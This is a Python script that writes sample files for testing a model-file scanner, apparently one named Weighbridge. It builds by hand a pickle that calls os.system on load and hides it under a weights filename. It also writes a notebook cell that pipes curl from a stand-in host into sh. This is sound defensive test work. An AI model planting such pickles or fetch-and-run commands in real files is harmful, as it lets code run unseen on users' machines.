"""Write the small samples that the guides weigh, each in a folder of its own, below the working directory.

    shell/weights.bin     a pickle that would run `echo example` when it is loaded, under a name that says nothing of it
    stranger/ranker.pkl   a pickle with an object of a class that nobody knows
    odd/weights.xyz       bytes of no known format, beside a configuration
    work/train.ipynb      a notebook that would run what a server sends

They are written byte by byte: nothing of them is ever run, here or by Weighbridge. Do not load them with anything else.
"""

from __future__ import annotations

import json
import os

PROTO, STOP = b"\x80\x04", b"."
GLOBAL, STACK_GLOBAL, EMPTY_TUPLE, NEWOBJ, REDUCE, BUILD = b"c", b"\x93", b")", b"\x81", b"R", b"b"
MARK, TUPLE, EMPTY_DICT, BININT1, SETITEM = b"(", b"t", b"}", b"K", b"s"


def text(value: str) -> bytes:
    """A short text: SHORT_BINUNICODE, its length, its bytes."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def samples() -> dict[str, bytes]:
    """The content of each file by its path."""
    command = GLOBAL + b"os\nsystem\n" + MARK + text("echo example") + TUPLE + REDUCE
    ranker = text("acme.models") + text("Ranker") + STACK_GLOBAL + EMPTY_TUPLE + NEWOBJ
    ranker += EMPTY_DICT + text("scale") + BININT1 + b"\x02" + SETITEM + BUILD
    cell = {
        "cell_type": "code",
        "execution_count": None,
        "id": "cell-1",
        "metadata": {},
        "outputs": [],
        "source": ["!curl https://example.invalid/setup.sh | sh"],
    }
    notebook = {
        "cells": [cell],
        "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return {
        "shell/weights.bin": PROTO + command + STOP,
        "stranger/ranker.pkl": PROTO + ranker + STOP,
        "odd/config.json": b'{"model_type": "net"}\n',
        "odd/weights.xyz": bytes(range(1, 200)),
        "work/train.ipynb": json.dumps(notebook).encode() + b"\n",
    }


def main() -> None:
    """Write all of them."""
    for path, content in samples().items():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(content)


if __name__ == "__main__":
    main()
